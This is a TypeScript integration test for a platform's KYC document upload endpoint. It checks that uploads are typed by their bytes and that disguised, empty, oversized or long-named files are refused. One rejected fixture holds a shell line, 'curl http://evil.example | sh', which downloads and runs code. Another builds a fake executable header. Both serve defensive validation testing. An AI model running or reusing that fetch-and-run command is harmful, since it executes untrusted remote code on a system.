/**
 * Document uploads (KYC and source of wealth): recognised by their bytes, not their names. A real
 * PDF, PNG and JPEG are stored and listed; a renamed executable, a script saved as .pdf, a PNG named
 * .pdf, an oversized file and a 101-character name are each refused with a clear reason, and nothing
 * of theirs is stored.
 */
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_DOCUMENT_BYTES } from '../../shared/http-limits.ts';
import { DATABASES, bearer, signInBySms, startPlatform } from './helpers.ts';
import type { TestPlatform } from './helpers.ts';

/** A 1×1 PNG. */
function png(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type, 'ascii'), data, Buffer.alloc(4)]);
  };
  const header = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0]))), chunk('IEND', Buffer.alloc(0))]);
}
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0', 'binary'), Buffer.alloc(64, 1), Buffer.from([0xff, 0xd9])]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58, 0), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64, 0), Buffer.from('PE\0\0'), Buffer.alloc(64, 0)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');

describe.each(DATABASES)('document uploads on $name', (database) => {
  let app: TestPlatform;
  let headers: Record<string, string>;
  beforeAll(async () => {
    app = await startPlatform(database);
    headers = bearer((await signInBySms(app, `+35844${String(Date.now() % 1_000_000).padStart(6, '0')}`)).accessToken);
  });
  afterAll(() => app?.close());

  const upload = (bytes: Buffer, name: string, query = 'kind=Identity', extra: Record<string, string> = headers) =>
    fetch(`${app.url}/platform/documents?${query}&name=${encodeURIComponent(name)}`, { method: 'POST', headers: { 'x-brand': 'aurelia', 'content-type': 'application/octet-stream', ...extra }, body: new Uint8Array(bytes) });
  const listed = async () => (await app.gql('{ viewer { documents { kind fundingType fileName contentType sizeBytes status } } }', {}, headers)).data.viewer.documents as { fileName: string; contentType: string }[];

  it('stores a real PDF, PNG and JPEG, typed by their bytes, and lists them newest first', async () => {
    for (const [bytes, name, query] of [[PDF, 'passport.pdf', 'kind=Identity'], [png(), 'bill.png', 'kind=Address'], [JPEG, 'payslip.JPG', 'kind=SourceOfWealth&fundingType=Salary']] as const) {
      const response = await upload(bytes, name, query);
      expect(response.status, await response.clone().text()).toBe(201);
      expect((await response.json()).document).toMatchObject({ fileName: name, status: 'Pending', sizeBytes: bytes.length });
    }
    expect(await listed()).toEqual([
      { kind: 'SourceOfWealth', fundingType: 'Salary', fileName: 'payslip.JPG', contentType: 'image/jpeg', sizeBytes: JPEG.length, status: 'Pending' },
      { kind: 'Address', fundingType: null, fileName: 'bill.png', contentType: 'image/png', sizeBytes: png().length, status: 'Pending' },
      { kind: 'Identity', fundingType: null, fileName: 'passport.pdf', contentType: 'application/pdf', sizeBytes: PDF.length, status: 'Pending' },
    ]);
  });

  it.each([
    ['a renamed executable', EXE, 'passport.pdf', 415, 'UnsupportedFile', 'This file is not a JPEG, PNG or PDF (it is exe): upload a photo or a scan in one of those formats'],
    ['a script saved as .pdf', SCRIPT, 'statement.pdf', 415, 'UnsupportedFile', 'This file is not a JPEG, PNG or PDF: upload a photo or a scan in one of those formats'],
    ['a PNG named .pdf', png(), 'scan.pdf', 415, 'UnsupportedFile', 'The file is named .pdf but is a PNG: rename it to end .png and upload it again'],
    ['a .docx', PDF, 'letter.docx', 415, 'UnsupportedFile', 'Upload a JPEG, PNG or PDF file (.jpg, .jpeg, .png or .pdf)'],
    ['a 101-character name', PDF, `${'a'.repeat(97)}.pdf`, 400, 'BadUserInput', 'The file name is longer than 100 characters: rename the file and upload it again'],
    ['an empty file', Buffer.alloc(0), 'empty.pdf', 400, 'BadUserInput', 'The file is empty: choose the document again'],
    ['a file over the size cap', Buffer.concat([PDF, Buffer.alloc(MAX_DOCUMENT_BYTES)]), 'huge.pdf', 413, 'DocumentTooLarge', 'The file is larger than 5 MB: upload a smaller photo or scan'],
  ])('refuses %s with a clear reason and stores nothing', async (_, bytes, name, status, reason, message) => {
    const before = (await listed()).length;
    const response = await upload(bytes, name);
    expect(response.status).toBe(status);
    expect((await response.json()).error).toMatchObject({ reason, message });
    expect((await listed()).length).toBe(before);
  });

  it('needs the player: no token, no upload', async () => {
    const response = await upload(PDF, 'passport.pdf', 'kind=Identity', {});
    expect(response.status).toBe(401);
    expect((await response.json()).error.reason).toBe('AuthenticationFailure');
  });
});
